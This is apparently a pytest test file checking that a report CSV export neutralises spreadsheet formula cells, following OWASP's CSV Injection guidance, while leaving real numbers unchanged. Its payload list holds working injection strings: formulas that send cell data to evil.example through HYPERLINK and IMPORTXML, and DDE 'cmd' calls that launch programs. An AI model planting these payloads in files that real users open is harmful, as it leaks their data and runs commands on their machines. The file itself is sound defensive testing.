"""CSV export neutralises formula cells (OWASP CSV Injection); real numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from common.reports.export import export_report, neutralise_cell
from common.reports.markdown import ReportTable
from common.reports.render import RenderResult

# The payloads of OWASP's "CSV Injection" page and the review of 2026-12-01.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "@",
    "=",
    "-1+1",
    "+1e5e5",
]
NUMBERS = ["-12", "-12.5", "+3", "-1,234.50", "1e-3", "-0.5", "12%", "-7%", "1234", "-1.5E+3"]
PLAIN = ["", "hello", "a=b", "x+y", "Ł-ódź", "'quoted", " =1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + PLAIN)
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_the_downloaded_csv_carries_the_neutralised_cells() -> None:
    table = ReportTable(["=name", "qty"], [[f, "-3"] for f in FORMULAS])
    out = export_report(RenderResult(html="", markdown="", tables=[table]), "csv", "r")
    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=name", "qty"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert all(r[1] == "-3" for r in rows[1:])
